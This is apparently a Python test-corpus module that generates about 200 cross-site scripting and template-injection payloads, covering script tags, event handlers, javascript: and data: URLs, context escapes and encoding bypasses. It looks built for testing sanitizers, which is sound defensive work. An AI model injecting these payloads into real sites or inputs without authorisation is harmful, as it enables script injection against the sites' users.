"""Two hundred texts that a careless page would run: tags, attributes, addresses and ways out of each context."""

from __future__ import annotations

TAGS = (
    *("script", "SCRIPT", "ScRiPt", "svg", "img", "iframe", "object", "embed", "base", "link", "meta", "style"),
    *("body", "details", "video", "audio", "math", "form", "input", "button"),
)
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "ontoggle", "onfocus", "onbegin", "onanimationstart")
SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *("&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD4=", "\x01javascript:alert(1)", "javascript&colon;alert(1)"),
)
ESCAPES = (
    *('"', "'", '">', "'>", "</bdi>", "</p>", "</mark>", "</title>", "</style>", "</script>", "</svg>", "</td></tr>"),
    *("-->", "<!--", "]]>", "<![CDATA[", "</pre>", "</textarea>", "</noscript>", "`", "\\", "{{", "{%", "${", "#{"),
)


def vectors() -> list[str]:
    """Exactly 200, each once."""
    found = [f"<{tag}>alert(1)</{tag}>" for tag in TAGS]
    found += [f"<img src=x {event}=alert(1)>" for event in EVENTS]
    found += [f'" {event}="alert(1)' for event in EVENTS]
    found += [f"' {event}='alert(1)" for event in EVENTS]
    found += [f"<svg/{event}=alert(1)//" for event in EVENTS]
    found += [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
    found += [f"<iframe src='{scheme}'></iframe>" for scheme in SCHEMES]
    found += SCHEMES
    found += [f"{escape}<script>alert(1)</script>" for escape in ESCAPES]
    found += [f"{escape}<img src=x onerror=alert(1)>" for escape in ESCAPES]
    found += [f"{escape} onmouseover=alert(1) x={escape}" for escape in ESCAPES]
    found += [
        *("{{ 7*7 }}", "{% include 'x' %}", "{{ ''.__class__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
        *("\u202e<script>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<script>"),
        *("＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        *("<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>"),
        *("expression(alert(1))", "url(javascript:alert(1))", "@import 'http://x'", "<x style=behavior:url(x)>"),
        *("<isindex action=javascript:alert(1)>", "<marquee onstart=alert(1)>", "<portal src=javascript:alert(1)>"),
        *("<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=1>'>"),
    ]
    found += [f"<{tag} autofocus onfocus=alert(1)>" for tag in TAGS]
    unique = list(dict.fromkeys(found))
    return unique[:200]
